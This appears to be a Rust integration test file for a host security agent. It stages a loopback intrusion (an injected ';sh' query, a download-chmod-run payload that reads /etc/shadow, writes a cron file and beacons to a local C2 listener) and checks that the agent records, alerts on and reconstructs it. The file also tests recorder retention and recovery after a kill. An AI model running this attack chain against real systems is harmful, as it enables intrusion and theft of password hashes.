//! The drive recorder on the real kernel: a scripted intrusion, recorded by a live `osprey run`,
//! told back by `osprey story` (terminal, JSON, and an HTML graph rendered in headless
//! Chromium) and found by `osprey hunt`; and a store that survives `kill -9` mid-write.

use std::{
    io::{Read, Write},
    net::TcpListener,
    path::{Path, PathBuf},
    process::{Child, Command, Output, Stdio},
    time::{Duration, Instant},
};

use osprey_tests::{canonical, marker, osprey_bin, require_root, TestCgroup};
use serde_json::Value;

const WORKLOAD: &str = env!("CARGO_BIN_EXE_osprey-workload");

fn rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

/// `osprey run` with the default rule pack, recording into `dir/recorder.db`.
struct Agent {
    child: Child,
    dir: PathBuf,
}

impl Agent {
    fn start(dir: &Path, extra: &str) -> Self {
        let cfg = dir.join("osprey.yaml");
        std::fs::write(
            &cfg,
            format!(
                "rules:\n  paths: [{}]\noutput:\n  stdout: false\nhealth:\n  enabled: false\ncontrol:\n  socket: {}\nrecorder:\n  path: {}\n  flush_interval: 200ms\n{extra}",
                rules_dir().display(),
                dir.join("osprey.sock").display(),
                dir.join("recorder.db").display(),
            ),
        )
        .unwrap();
        let log = std::fs::File::create(dir.join("agent.log")).unwrap();
        let child = Command::new(osprey_bin())
            .args(["run", "--duration", "300s", "--config"])
            .arg(&cfg)
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .unwrap();
        let agent = Self { child, dir: dir.to_owned() };
        let deadline = Instant::now() + Duration::from_secs(60);
        while !agent.log().contains("control socket listening") {
            assert!(Instant::now() < deadline, "the agent did not start:\n{}", agent.log());
            std::thread::sleep(Duration::from_millis(100));
        }
        agent
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.join("agent.log")).unwrap_or_default()
    }

    fn socket(&self) -> PathBuf {
        self.dir.join("osprey.sock")
    }

    fn store(&self) -> PathBuf {
        self.dir.join("recorder.db")
    }

    fn stop(mut self) {
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(self.child.id() as i32), nix::sys::signal::Signal::SIGTERM).unwrap();
        let status = self.child.wait().unwrap();
        assert!(status.success(), "agent: {status}\n{}", self.log());
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn osprey(args: &[&str]) -> Output {
    Command::new(osprey_bin()).args(args).output().unwrap()
}

fn json_of(out: &Output, what: &str) -> Value {
    assert!(out.status.success(), "{what}: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{what}: {e}: {}", String::from_utf8_lossy(&out.stdout)))
}

/// Serves `body` to one HTTP client on 127.0.0.1; returns the port.
fn serve_once(body: Vec<u8>) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let (mut s, _) = l.accept().unwrap();
        osprey_tests::read_http_head(&mut s);
        let _ = s.write_all(b"HTTP/1.0 200 OK\r\n\r\n");
        let _ = s.write_all(&body);
    });
    port
}

#[test]
fn a_scripted_intrusion_is_recorded_told_as_a_story_and_hunted() {
    require_root();
    let _serial = osprey_tests::serial();
    let dir = tempfile::tempdir().unwrap();
    let agent = Agent::start(dir.path(), "");
    let work = dir.path().join("w");
    let cron = dir.path().join("cron.d");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::create_dir_all(&cron).unwrap();
    let work = canonical(work.to_str().unwrap());
    let cron = canonical(cron.to_str().unwrap());
    let payload = format!("{work}/payload");
    let cron_file = format!("{cron}/{}", marker());

    // The intruder's infrastructure, on loopback.
    let dl_port = serve_once(std::fs::read(WORKLOAD).unwrap());
    let c2 = TcpListener::bind("127.0.0.1:0").unwrap();
    let c2_port = c2.local_addr().unwrap().port();
    let c2_thread = std::thread::spawn(move || {
        let (mut s, _) = c2.accept().unwrap();
        let mut b = Vec::new();
        let _ = s.read_to_end(&mut b);
        b
    });

    // The "web server", in a cgroup of its own, runs what the request injects.
    let cg = TestCgroup::new();
    let port_file = dir.path().join("port");
    let script = format!(
        "{WORKLOAD} fetch http://127.0.0.1:{dl_port}/payload {payload} && chmod +x {payload} && {payload} payload /etc/shadow {cron_file} 127.0.0.1:{c2_port}"
    );
    let mut web = Command::new(WORKLOAD);
    web.args(["websrv", port_file.to_str().unwrap(), &script]);
    cg.enter_on_exec(&mut web);
    let mut web = web.spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    let port = loop {
        if let Some(p) = std::fs::read_to_string(&port_file).ok().and_then(|s| s.parse::<u16>().ok()) {
            break p;
        }
        assert!(Instant::now() < deadline, "websrv did not start");
        std::thread::sleep(Duration::from_millis(20));
    };
    // Unrelated activity at the same time, outside the web server's tree.
    let noise = Command::new("/bin/cat").arg("/etc/hostname").stdout(Stdio::null()).status().unwrap();
    assert!(noise.success());
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.write_all(b"GET /?q=;sh HTTP/1.0\r\n\r\n").unwrap();
    let mut reply = String::new();
    let _ = s.read_to_string(&mut reply);
    assert!(web.wait().unwrap().success());
    assert!(reply.contains("exit status: 0"), "the injected script ran: {reply}");
    assert_eq!(c2_thread.join().unwrap(), b"beacon\n");

    // The alert on the payload's read of /etc/shadow, found through the running agent.
    let sock = agent.socket();
    let sock = sock.to_str().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    let alert = loop {
        let v = json_of(&osprey(&["hunt", "--alerts", "--exe", &payload, "--json", "--socket", sock]), "hunt --alerts");
        if let Some(a) = v["hits"].as_array().into_iter().flatten().find(|h| h["doc"]["rule"]["id"] == "69abb76e-7282-4c6f-85f5-e2a9195f0aa0") {
            break a.clone();
        }
        assert!(Instant::now() < deadline, "no shadow-read alert recorded: {v:#}\n{}", agent.log());
        std::thread::sleep(Duration::from_millis(300));
    };
    let alert_id = alert["doc"]["event"]["id"].as_str().expect("alerts carry event.id").to_owned();
    // The C2 connection is recorded once the pipeline has written it: it precedes the alert's
    // flush only loosely, so wait for it too.
    let c2_port_s = c2_port.to_string();
    let deadline = Instant::now() + Duration::from_secs(10);
    let c2_hits = loop {
        let v = json_of(&osprey(&["hunt", "--ip", "127.0.0.1", "--port", &c2_port_s, "--json", "--socket", sock]), "hunt --ip");
        let hits: Vec<Value> = v["hits"].as_array().cloned().unwrap_or_default();
        if hits.iter().any(|h| h["action"] == "connection_attempted") || Instant::now() > deadline {
            break hits;
        }
        std::thread::sleep(Duration::from_millis(300));
    };
    let c2_connect = c2_hits
        .iter()
        .find(|h| h["action"] == "connection_attempted" && h["doc"]["destination"]["port"] == c2_port)
        .unwrap_or_else(|| panic!("hunt --ip finds the C2 connection: {c2_hits:#?}"));
    assert_eq!(c2_connect["executable"], payload.as_str(), "and its process");
    assert!(c2_connect["command_line"].as_str().unwrap().contains("payload /etc/shadow"), "{c2_connect:#}");

    // The story, from the running agent.
    let story = json_of(&osprey(&["story", &alert_id, "--json", "--socket", sock]), "story");
    let procs = story["processes"].as_array().unwrap();
    let root = &procs[0];
    assert_eq!(root["executable"], canonical(WORKLOAD), "the web server is the root cause: {story:#}");
    assert!(story["root_reason"].as_str().unwrap().contains("cgroup"), "{}", story["root_reason"]);
    let mine = |p: &Value| p["command_line"].as_str().is_some_and(|c| c.contains(&work)) || p["executable"] == canonical(WORKLOAD);
    for p in procs {
        assert!(mine(p), "only the intrusion's processes: {p:#}");
    }
    assert!(procs.iter().all(|p| p["executable"] != "/usr/bin/cat"), "no unrelated processes");
    let depth_of = |exe: &str| procs.iter().find(|p| p["executable"] == exe).map(|p| p["depth"].as_u64().unwrap());
    assert!(depth_of(&payload).unwrap() >= 2, "the payload sits under the shell under the web server");

    // Every step, in order.
    let steps: Vec<(String, String)> = story["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| (s["action"].as_str().unwrap().to_owned(), s["object"].as_str().unwrap().to_owned()))
        .collect();
    let at = |what: &str, pred: &dyn Fn(&(String, String)) -> bool| {
        steps.iter().position(pred).unwrap_or_else(|| panic!("step {what} in the story: {steps:#?}"))
    };
    let shell = at("shell", &|(a, o)| a == "exec" && o.starts_with("/bin/sh -c"));
    let download = at("download connect", &|(a, o)| a == "connection_attempted" && o.ends_with(&format!(":{dl_port}")));
    let written = at("payload written", &|(a, o)| a != "exec" && o == &payload);
    let chmod = at("chmod", &|(a, o)| a == "chmod" && o == &payload);
    let run = at("payload exec", &|(a, o)| a == "exec" && o.starts_with(&format!("{payload} payload")));
    let shadow = at("shadow read", &|(a, o)| a == "read" && o == "/etc/shadow");
    let cron_w = at("cron write", &|(a, o)| a != "exec" && o == &cron_file);
    let call = at("C2 connect", &|(a, o)| a == "connection_attempted" && o.ends_with(&format!(":{c2_port}")));
    let alerted = at("alert", &|(a, o)| a == "alert" && o.contains("Password Hashes"));
    let order = [shell, download, written, chmod, run, shadow, cron_w, call];
    assert!(order.windows(2).all(|w| w[0] < w[1]), "in order: {order:?} {steps:#?}");
    assert!(alerted > shadow);

    // The terminal tree names them too.
    let text = osprey(&["story", &alert_id, "--socket", sock]);
    assert!(text.status.success());
    let text = String::from_utf8(text.stdout).unwrap();
    for needle in ["root cause:", "/etc/shadow", &cron_file, &format!("127.0.0.1:{c2_port}")] {
        assert!(text.contains(needle), "{needle} in\n{text}");
    }

    agent.stop();

    // The agent is down: the CLI reads the store itself, and tells the same story.
    let store = dir.path().join("recorder.db");
    let html = dir.path().join("story.html");
    let direct = json_of(
        &osprey(&["story", &alert_id, "--json", "--store", store.to_str().unwrap(), "--html", html.to_str().unwrap()]),
        "story --store",
    );
    assert_eq!(direct["processes"], story["processes"]);
    check_html_in_chromium(&html, procs.len(), dir.path());
}

/// Opens the story page in headless Chromium: the DOM holds one process node per process and
/// the screenshot is not blank.
fn check_html_in_chromium(html: &Path, processes: usize, dir: &Path) {
    let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"].into_iter().find(|p| Path::new(p).exists());
    let chromium = chromium.expect("chromium is installed (cargo xtask deps installs it)");
    let url = format!("file://{}", html.display());
    let base = |profile: &str| {
        let mut c = Command::new(chromium);
        c.args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--window-size=1400,900",
            "--virtual-time-budget=3000",
        ])
        .arg(format!("--user-data-dir={}", dir.join(profile).display()))
        .stderr(Stdio::null());
        c
    };
    let dom = base("p1").arg("--dump-dom").arg(&url).output().unwrap();
    assert!(dom.status.success());
    let dom = String::from_utf8_lossy(&dom.stdout);
    assert!(dom.contains(&format!("data-rendered=\"{processes}\"")), "the script ran: {}", &dom[..dom.len().min(2000)]);
    assert_eq!(dom.matches("class=\"node process").count(), processes, "a node per process");
    assert!(dom.matches("class=\"node file").count() >= 3, "file nodes: shadow, payload, cron");
    let shot = dir.join("story.png");
    let st = base("p2").arg(format!("--screenshot={}", shot.display())).arg(&url).status().unwrap();
    assert!(st.success());
    let decoder = png::Decoder::new(std::io::BufReader::new(std::fs::File::open(&shot).unwrap()));
    let mut reader = decoder.read_info().unwrap();
    let mut buf = vec![0; reader.output_buffer_size().unwrap()];
    let info = reader.next_frame(&mut buf).unwrap();
    let px = info.color_type.samples();
    let pixels: Vec<&[u8]> = buf[..info.buffer_size()].chunks(px).collect();
    let background = pixels[0];
    let other = pixels.iter().filter(|p| p[..3] != background[..3]).count();
    let colours: std::collections::HashSet<&[u8]> = pixels.iter().map(|p| &p[..3]).collect();
    assert!(other * 100 > pixels.len(), "{other} of {} pixels differ from the background", pixels.len());
    assert!(colours.len() > 8, "{} colours: the graph is drawn", colours.len());
}

#[test]
fn retention_deletes_the_oldest_first_and_kill_9_mid_write_loses_no_committed_batch() {
    require_root();
    let _serial = osprey_tests::serial();
    let dir = tempfile::tempdir().unwrap();
    let limit: u64 = 2 << 20;
    let agent = Agent::start(
        dir.path(),
        "  max_size: 2MiB\n  batch: 256\n",
    );
    let store_path = agent.store();
    // A storm of forks and exits: far more than 2 MiB of events.
    let mut storm = Command::new(WORKLOAD).args(["churn", "200000"]).spawn().unwrap();
    let open = || agent::recorder::Store::open_read(&store_path).unwrap();
    let deadline = Instant::now() + Duration::from_secs(120);
    let mut seen_max = 0;
    let mut first_seen = None;
    // Until retention has deleted (the oldest id moved) and well past the limit in total.
    loop {
        let s = open();
        if let Some((lo, hi)) = s.id_range().unwrap() {
            first_seen.get_or_insert(lo);
            seen_max = seen_max.max(hi);
            if lo > first_seen.unwrap() && hi > 20_000 {
                break;
            }
        }
        assert!(Instant::now() < deadline, "retention never ran: {:?}\n{}", s.id_range(), agent.log());
        std::thread::sleep(Duration::from_millis(200));
    }
    // Mid-write: the storm still runs, batches are being committed.
    std::thread::sleep(Duration::from_millis(300));
    let s = open();
    seen_max = seen_max.max(s.id_range().unwrap().unwrap().1);
    drop(s);
    let mut agent = agent;
    agent.child.kill().unwrap(); // SIGKILL
    agent.child.wait().unwrap();
    let _ = storm.kill();
    let _ = storm.wait();

    // It opens cleanly for writing (recovering its WAL) and keeps every committed batch.
    let s = agent::recorder::Store::open(&store_path).unwrap();
    assert_eq!(s.integrity().unwrap(), "ok");
    let (lo, hi) = s.id_range().unwrap().unwrap();
    assert!(hi >= seen_max, "the newest committed event {seen_max} survives (store ends at {hi})");
    assert!(lo > 1, "the oldest were deleted first");
    assert_eq!(s.count().unwrap() as i64, hi - lo + 1, "deletion took a prefix: no holes in the ids");
    let used = s.used_bytes().unwrap();
    // Retention runs after every 5% of the limit written: a batch or two over it at most.
    assert!(used < limit + limit / 4, "{used} bytes held against a limit of {limit}");
    drop(s);
    let _ = dir;
}
